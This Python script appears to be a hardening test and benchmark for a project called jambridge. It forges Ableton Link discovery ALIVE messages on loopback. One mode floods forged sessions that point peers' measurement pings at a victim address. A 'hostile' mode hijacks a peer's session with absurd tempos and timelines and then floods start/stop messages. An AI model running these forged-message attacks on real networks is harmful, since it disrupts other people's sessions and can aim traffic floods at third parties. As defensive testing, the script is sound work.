"""Forged Ableton Link sessions for jambridge's Link hardening test and benchmark (issue 41): hand-made ALIVE
messages of Link's discovery protocol, each from a peer that founded a session of its own, all naming one address
as the endpoint to measure them at. Run it in a network namespace of the test's own: it multicasts to Link's group
224.76.78.75:20808 out of loopback (127.0.0.1), as Link does there.

A Link peer that hears a session it does not know measures it: it opens a socket and pings the endpoint the ALIVE
names (its "mep4" entry) until that answers or five 50 ms timeouts pass. The named endpoint here is a socket of this
script's (VICTIM, an address of loopback such as 127.0.0.2), which counts the pings, never answering. The socket the
ALIVEs go out of counts what comes back to it (Link answers each ALIVE with a RESPONSE to its sender).

The message (ableton/discovery/v1/Messages.hpp, ableton/link/*.hpp; all numbers big-endian):
  "_asdp_v" 0x01                      protocol header
  type u8 (1 ALIVE), ttl u8 (seconds), group u16 (0), node id 8 bytes
  then entries, each key u32, size u32, value:
    'tmln' tempo (µs a beat) i64, beat origin (µbeats) i64, time origin (µs) i64
    'sess' session id 8 bytes (here the node's own: it founded the session)
    'stst' playing u8, beats i64, timestamp (µs) i64
    'mep4' IPv4 address u32, port u16  (where to measure the node)

  link_forger.py VICTIM_HOST VICTIM_PORT SESSIONS RATE SECONDS

sends RATE ALIVEs a second for SECONDS seconds, cycling through SESSIONS forged sessions, then waits a second for the
last pings and prints one JSON line: {"sent": ALIVEs, "pings": datagrams at the victim, "ping_bytes": their bytes,
"responses": datagrams back to the sender}.

  link_forger.py hostile

(issue 43) waits for a Link peer's ALIVE, then joins its session as a forged peer of the same session id: a peer of
the session whose timeline has a larger beat origin is adopted at once, no measurement, and a later start/stop
timestamp likewise. It sends each hostile timeline of the series for half a second, 20 ALIVEs: a huge beat, a tempo
of 0 us a beat, a negative one, a huge time origin, then starts and stops every 5 ms for 2 s; a JSON line per step,
{"step": name}, and {"done": ALIVEs sent} at the end.
"""
import json
import os
import socket
import struct
import sys
import threading
import time

GROUP = ("224.76.78.75", 20808)


def entry(key, value):
    return key + struct.pack(">I", len(value)) + value


def alive(node, victim):
    host, port = victim
    return (b"_asdp_v\x01" + struct.pack(">BBH", 1, 5, 0) + node
            + entry(b"tmln", struct.pack(">qqq", 500_000, 0, 0))
            + entry(b"sess", node)
            + entry(b"stst", struct.pack(">?qq", False, 0, 0))
            + entry(b"mep4", socket.inet_aton(host) + struct.pack(">H", port)))


def count(sock, tally, stop):
    sock.settimeout(0.1)
    while not stop.is_set():
        try:
            data = sock.recv(2048)
        except socket.timeout:
            continue
        tally[0] += 1
        tally[1] += len(data)


def entries(message):
    """The entries of a Link discovery message, by key."""
    found, at = {}, 20
    while at + 8 <= len(message):
        key, size = message[at:at + 4], struct.unpack(">I", message[at + 4:at + 8])[0]
        found[key] = message[at + 8:at + 8 + size]
        at += 8 + size
    return found


def hostile():
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("", GROUP[1]))
    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP[0]) + socket.inet_aton("127.0.0.1"))
    node = os.urandom(8)
    while True:
        message = listener.recv(2048)
        if message[:8] == b"_asdp_v\x01" and message[8] == 1 and message[12:20] != node:
            session = entries(message).get(b"sess")
            if session:
                break
    print(json.dumps({"victim": session.hex()}), flush=True)
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
    sender.bind(("127.0.0.1", 0))
    endpoint = entry(b"mep4", socket.inet_aton("127.0.0.1") + struct.pack(">H", sender.getsockname()[1]))
    big = 1 << 62
    sent = 0

    def send(timeline, playing=False, stamp=0):
        nonlocal sent
        sender.sendto(b"_asdp_v\x01" + struct.pack(">BBH", 1, 5, 0) + node + entry(b"tmln", struct.pack(">qqq", *timeline))
                      + entry(b"sess", session) + entry(b"stst", struct.pack(">?qq", playing, 0, stamp)) + endpoint, GROUP)
        sent += 1

    # Each timeline's beat origin above the last, so that each is adopted.
    steps = [("huge beat", (500_000, big, 0)), ("tempo 0", (0, big + 1, 0)), ("negative tempo", (-500_000, big + 2, 0)),
             ("huge time origin", (500_000, big + 3, big))]
    for name, timeline in steps:
        print(json.dumps({"step": name}), flush=True)
        for _ in range(20):
            send(timeline)
            time.sleep(0.025)
    print(json.dumps({"step": "start/stop flood"}), flush=True)
    start = time.monotonic()
    while time.monotonic() - start < 2:
        send(steps[-1][1], playing=sent % 2 == 0, stamp=big + sent)
        time.sleep(0.005)
    print(json.dumps({"done": sent}), flush=True)


def main():
    if sys.argv[1:] == ["hostile"]:
        return hostile()
    host, port, sessions, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    victim.bind((host, port))
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
    sender.bind(("127.0.0.1", 0))
    messages = [alive(os.urandom(8), (host, port)) for _ in range(sessions)]
    pings, responses, stop = [0, 0], [0, 0], threading.Event()
    counters = [threading.Thread(target=count, args=(s, t, stop)) for s, t in ((victim, pings), (sender, responses))]
    for counter in counters:
        counter.start()
    sent, start = 0, time.monotonic()
    while time.monotonic() - start < seconds:
        # As many as are due by now, then a millisecond's sleep.
        due = int((time.monotonic() - start) * rate)
        while sent < due:
            sender.sendto(messages[sent % sessions], GROUP)
            sent += 1
        time.sleep(0.001)
    time.sleep(1)
    stop.set()
    for counter in counters:
        counter.join()
    print(json.dumps({"sent": sent, "pings": pings[0], "ping_bytes": pings[1], "responses": responses[0]}), flush=True)


if __name__ == "__main__":
    main()
